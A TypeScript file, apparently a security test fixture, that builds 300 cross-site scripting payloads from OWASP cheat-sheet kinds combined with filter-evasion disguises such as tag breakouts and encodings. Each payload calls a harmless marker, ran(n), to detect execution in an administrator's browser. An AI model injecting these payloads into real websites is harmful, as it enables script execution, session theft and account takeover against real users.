// Payloads that try to run a script in an administrator's browser: the kinds of OWASP's
// cheat sheet (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), each in disguises.

/** RAN stands for the call that tells that it ran. */
const KINDS = [
  '<script>RAN</script>',
  '<img src=x onerror=RAN>',
  '<svg onload=RAN>',
  '<svg><script>RAN</script></svg>',
  '<iframe src="javascript:RAN">',
  '<iframe srcdoc="<script>parent.RAN</script>">',
  '<a href="javascript:RAN" id=go>go</a>',
  '<body onload=RAN>',
  '<details open ontoggle=RAN>',
  '<input autofocus onfocus=RAN>',
  '<video><source onerror=RAN></video>',
  '<audio src=x onerror=RAN>',
  '<object data="javascript:RAN">',
  '<embed src="javascript:RAN">',
  '<form><button formaction="javascript:RAN">go',
  '<math><mi xlink:href="javascript:RAN">go',
  '<style>@import"javascript:RAN";</style>',
  '<link rel=stylesheet href="javascript:RAN">',
  '<meta http-equiv=refresh content="0;url=javascript:RAN">',
  '<base href="javascript:RAN//">',
  '<marquee onstart=RAN>',
  '<template><script>RAN</script></template>',
  '<select autofocus onfocus=RAN>',
  'javascript:RAN',
  'data:text/html,<script>parent.RAN</script>',
  '{{constructor.constructor("RAN")()}}',
  '${RAN}',
  "';RAN;//",
  '";RAN;//',
  '`;RAN;//',
] as const;

const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</script>${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => `-->${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replace(/<(\w+)/, (_, tag: string) => `<${tag.toUpperCase()}/`),
  (text) => `\u202E${text}`,
];

/** 300 of them in one line each; the n-th calls `ran(n)`. */
export const PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) => KINDS.map(disguise)).map(
  (text, n) => text.replaceAll('RAN', `ran(${n})`),
);
